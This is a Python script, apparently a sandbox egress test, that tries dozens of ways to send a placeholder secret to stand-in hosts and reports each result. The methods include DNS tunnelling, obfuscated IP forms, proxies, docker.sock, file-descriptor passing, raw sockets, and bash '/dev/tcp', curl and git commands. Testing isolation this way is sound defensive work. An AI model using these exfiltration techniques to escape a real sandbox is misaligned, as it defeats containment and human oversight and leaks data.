"""Every way out that we know of, one after another; says what became of each."""
import array, os, smtplib, socket, ssl, subprocess, sys, urllib.request

folder = sys.argv[1]
secret = 'c2VjcmV0'


def attempt(name, run):
    try:
        print(name, 'went', run())
    except BaseException as error:
        print(name, type(error).__name__)


def connect(host, port, family=socket.AF_INET, send=secret.encode()):
    with socket.socket(family) as s:
        s.settimeout(5)
        s.connect((host, port))
        s.sendall(send)
        return s.recv(10)


def connect_unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
        s.sendall(secret.encode())
        return 'sent'


def datagram(host, port, family=socket.AF_INET, connected=False):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        if connected:
            s.connect((host, port))
            s.send(secret.encode())
        else:
            s.sendto(secret.encode(), (host, port))
        return s.recv(10)


def question(server, name=secret):
    query = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + bytes([len(name)]) + name.encode() + b'\7example\0\0\1\0\1'
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(query, (server, 53))
        return s.recv(512)


def sent_on():
    # Another process of ours gets the socket, and connects it.
    one, two = socket.socketpair()
    if os.fork() == 0:
        _, control, _, _ = two.recvmsg(1, socket.CMSG_SPACE(4))
        fd = array.array('i', control[0][2])[0]
        try:
            socket.socket(fileno=fd).connect(('203.0.113.7', 80))
            os._exit(0)
        except OSError:
            os._exit(1)
    with socket.socket() as s:
        one.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [s.fileno()]))])
        if os.wait()[1] != 0:
            raise ConnectionRefusedError
        return 'connected'


def through(variable, url):
    os.environ[variable] = 'http://203.0.113.7:3128'
    try:
        return urllib.request.urlopen(url, timeout=5).read()
    finally:
        del os.environ[variable]


def command(*words):
    done = subprocess.run(words, capture_output=True, timeout=60)
    if done.returncode != 0:
        raise OSError(done.returncode)
    return done.stdout


def raw(*arguments):
    import ctypes
    address = b'\2\0' + (80).to_bytes(2, 'big') + socket.inet_aton('203.0.113.7') + bytes(8)
    libc = ctypes.CDLL(None, use_errno=True)
    with socket.socket(type=arguments[0]) as s:
        if libc.sendto(s.fileno(), secret.encode(), 8, arguments[1], address, 16) < 0:
            raise OSError(ctypes.get_errno())
        return 'sent'


def libc_call(name, *arguments):
    import ctypes
    result = getattr(ctypes.CDLL(None, use_errno=True), name)(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def typed_question(kind):
    query = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\x08' + secret.encode() + b'\7example\0' + bytes([0, kind, 0, 1])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(query, ('203.0.113.53', 53))
        if s.recv(512)[3] & 15:
            raise OSError('refused')


def many_datagrams():
    # One call, several messages: the first to ourselves, the others not.
    import ctypes
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind(('127.0.0.1', 0))
    names = [b'\2\0' + port.to_bytes(2, 'big') + socket.inet_aton(host) + bytes(8) for host, port in
             [own.getsockname(), ('203.0.113.7', 9999), ('203.0.113.8', 9999)]]
    text = ctypes.create_string_buffer(secret.encode())
    keep, headers = [], (ctypes.c_ulong * 24)()
    for i, name in enumerate(names):
        parts = (ctypes.c_ulong * 2)(ctypes.addressof(text), 8)
        address = ctypes.create_string_buffer(name, 16)
        keep += [parts, address]
        headers[8 * i:8 * i + 4] = [ctypes.addressof(address), 16, ctypes.addressof(parts), 1]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        sent = libc_call('sendmmsg', s.fileno(), headers, 3, 0)
        if sent < 2:
            raise OSError('one sent')


def moved_datagram():
    # Connected to ourselves, then to nobody, then to somebody else.
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind(('127.0.0.1', 0))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(own.getsockname())
        s.send(b'x')
        libc_call('connect', s.fileno(), bytes(16), 16)
        s.connect(('203.0.113.7', 9999))
        s.send(secret.encode())


def moved_stream():
    own = socket.create_server(('127.0.0.1', 0))
    with socket.socket() as s:
        s.connect(own.getsockname())
        libc_call('connect', s.fileno(), bytes(16), 16)
        s.connect(('203.0.113.7', 80))
        s.sendall(secret.encode())


def with_option(level, name, value):
    # What makes Linux connect, route or send in another way.
    with socket.socket() as s:
        s.settimeout(2)
        s.setsockopt(level, name, value)
        s.connect(('203.0.113.7', 80))


def special(family, kind, protocol, address):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(2)
        s.connect(address)
        s.send(secret.encode())


attempt('label', lambda: socket.getaddrinfo(secret + '.example', 80))
attempt('label of a search', lambda: socket.gethostbyname(secret))
attempt('reverse', lambda: socket.gethostbyaddr('203.0.113.99'))
attempt('own question', lambda: question('203.0.113.53'))
attempt('question elsewhere', lambda: question('203.0.113.7'))
attempt('question to the machine', lambda: question('127.0.0.1'))
for host in ['203.0.113.7', '0xcb007107', '3405803783', '0313.0.0161.7', '127.0.0.1', '0x7f.1', '2130706433', '0', 'localhost']:
    attempt('numeric ' + host, lambda: connect(host, 80))
for host in ['::ffff:203.0.113.7', '::ffff:127.0.0.1', '::1', '::', '64:ff9b::cb00:7107']:
    attempt('numeric ' + host, lambda: connect(host, 80, socket.AF_INET6))
attempt('datagram', lambda: datagram('203.0.113.7', 9999))
attempt('datagram, connected', lambda: datagram('203.0.113.7', 9999, connected=True))
attempt('datagram of IPv6', lambda: datagram('::ffff:203.0.113.7', 9999, socket.AF_INET6))
attempt('datagram to all', lambda: datagram('255.255.255.255', 9999))
attempt('datagram to a group', lambda: datagram('224.0.0.1', 9999))
attempt('fast open', lambda: raw(socket.SOCK_STREAM, 0x20000000))
attempt('page', lambda: urllib.request.urlopen('http://203.0.113.7/redirect', timeout=5).read())
attempt('TLS', lambda: ssl.create_default_context().wrap_socket(socket.create_connection(('203.0.113.7', 443), 5)))
attempt('mail', lambda: smtplib.SMTP('203.0.113.7', timeout=5))
attempt('proxy', lambda: through('http_proxy', 'http://' + secret + '.example/'))
attempt('docker', lambda: connect_unix(folder + '/docker.sock'))
attempt('abstract', lambda: connect_unix('\0outside'))
attempt('passed on', lambda: sent_on())
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 0x300))
attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))
for kind in (2, 5, 12, 15, 16, 33, 255):
    attempt('question of type %d' % kind, lambda: typed_question(kind))
attempt('question over TCP', lambda: connect('203.0.113.53', 53))
for name in (secret + '.EXAMPLE.', secret.upper() + '.Example', secret + '\u3002example', 'xn--' + secret + '.example', 'a.example@' + secret + '.example'):
    attempt('name ' + ascii(name), lambda: socket.getaddrinfo(name, 80))
attempt('numeric only', lambda: socket.getaddrinfo(secret + '.example', 80, flags=socket.AI_NUMERICSERV))
attempt('scope', lambda: socket.socket(socket.AF_INET6).connect(('fe80::1', 80, 0, 1)))
attempt('scope of IPv4', lambda: socket.socket(socket.AF_INET6).connect(('::ffff:203.0.113.7', 80, 0, 1)))
attempt('compatible', lambda: connect('::203.0.113.7', 80, socket.AF_INET6))
attempt('several messages', lambda: many_datagrams())
attempt('moved datagram', lambda: moved_datagram())
attempt('moved stream', lambda: moved_stream())
attempt('late fast open', lambda: with_option(6, 30, 1))
attempt('transparent', lambda: with_option(0, 19, 1))
attempt('device', lambda: with_option(1, 25, b'lo\0'))
attempt('source route', lambda: with_option(0, 4, b'\x83\x07\x04\xcb\x00\x71\x08\x00'))
attempt('mark', lambda: with_option(1, 36, 7))
attempt('ping', lambda: special(socket.AF_INET, socket.SOCK_DGRAM, 1, ('203.0.113.7', 0)))
attempt('SCTP', lambda: special(socket.AF_INET, socket.SOCK_STREAM, 132, ('203.0.113.7', 80)))
attempt('MPTCP', lambda: special(socket.AF_INET, socket.SOCK_STREAM, 262, ('203.0.113.7', 80)))
attempt('UDP-Lite', lambda: special(socket.AF_INET, socket.SOCK_DGRAM, 136, ('203.0.113.7', 9999)))
attempt('netlink', lambda: socket.socket(16, socket.SOCK_RAW, 0))
attempt('cryptography of the kernel', lambda: socket.socket(38, socket.SOCK_SEQPACKET))
attempt('io_uring', lambda: libc_call('syscall', 425, 8, bytes(120)))
attempt('bash', lambda: command('bash', '-c', 'echo secret > /dev/tcp/203.0.113.7/80'))
attempt('bash, datagram', lambda: command('bash', '-c', 'echo secret > /dev/udp/203.0.113.7/9999'))
attempt('git', lambda: command('git', 'ls-remote', 'git://203.0.113.7/' + secret))
attempt('git over http', lambda: command('git', 'ls-remote', 'http://' + secret + '.example/x.git'))
attempt('curl', lambda: command('curl', '-s', 'http://203.0.113.7/'))
attempt('getent', lambda: command('getent', 'hosts', secret + '.example'))
attempt('curl and docker', lambda: command('curl', '-s', '--unix-socket', folder + '/docker.sock', 'http://x/'))
